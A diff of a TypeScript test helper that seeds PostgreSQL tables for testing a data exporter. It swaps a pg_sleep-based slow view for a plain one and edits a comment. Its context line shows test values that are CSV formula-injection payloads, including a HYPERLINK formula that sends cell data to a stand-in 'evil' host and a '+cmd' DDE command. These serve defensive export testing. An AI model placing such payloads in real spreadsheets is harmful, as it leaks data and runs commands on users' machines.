@@ -19,7 +19,8 @@ export const HOSTILE_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C c
 /**
  * efa's own tables (a run, stops in a 0.3° square from 9,48), and tables an operator added to schema
  * efa: an EMPTY geometry and infinite times (op_mixed), a column in EPSG:3857 (op_merc), one without
- * an SRID (op_nosrid), arrays (op_arrays), and a view that is slow to read (op_slow: 5 ms a row).
+ * an SRID (op_nosrid), arrays (op_arrays), and a view of 4,000 rows to export slowly (op_slow, with the
+ * export-batch failpoint's delay: test/export/files.test.ts).
  */
 export async function seedExportDb(url: string): Promise<void> {
   const db = await openDb(url);
@@ -47,7 +48,7 @@ export async function seedExportDb(url: string): Promise<void> {
       INSERT INTO efa.op_nosrid VALUES (1, 'POINT(1 2)'::geometry);
       CREATE TABLE efa.op_arrays (id int PRIMARY KEY, ints int[], bigs int8[], names text[]);
       INSERT INTO efa.op_arrays VALUES (1, '{1,2,NULL}', '{9007199254740993}', '{a,"b,c",NULL}'), (2, NULL, '{}', '{}');
-      CREATE VIEW efa.op_slow AS SELECT i AS id, pg_sleep(0.005)::text AS pause FROM generate_series(1, 4000) i;`);
+      CREATE VIEW efa.op_slow AS SELECT i AS id, 'pause'::text AS pause FROM generate_series(1, 4000) i;`);
   } finally {
     await db.close();
   }
